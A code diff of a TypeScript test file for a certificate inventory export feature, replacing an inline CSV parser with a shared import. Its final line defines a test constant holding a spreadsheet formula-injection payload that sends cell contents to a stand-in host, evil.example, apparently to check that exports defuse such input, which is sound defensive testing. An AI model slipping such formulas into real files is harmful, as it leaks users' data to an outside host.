@@ -4,27 +4,8 @@ import { createTestDatabase, DATABASE_KINDS, type TestDatabase } from "@/lib/tes
 import { DAY, insertCertificate, seedGateway } from "@/lib/reminder/test-support";
 import { EXPORT_PAGE_SIZE, exportFilename, exportStream, resolveScope } from "./inventories";
 import { exportQuerySchema, parseExportFile, type ExportFormat, type Inventory } from "./schema";
+import { parseCsv } from "@/lib/testing/csv";
 
-/** RFC 4180, enough for these files: quoted cells with commas, quotes and newlines. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = "";
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ",") row.push(cell), (cell = "");
-    else if (ch === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
-    else cell += ch;
-  }
-  if (cell || row.length) row.push(cell), rows.push(row);
-  return rows;
-}
 
 const NOW = new Date("2027-03-01T12:00:00Z");
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
